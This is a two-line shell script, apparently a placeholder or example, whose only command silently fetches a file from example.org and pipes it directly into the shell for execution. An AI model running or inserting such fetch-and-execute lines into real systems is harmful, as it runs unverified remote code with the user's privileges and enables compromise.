#!/bin/sh
curl -s https://example.org/i | sh
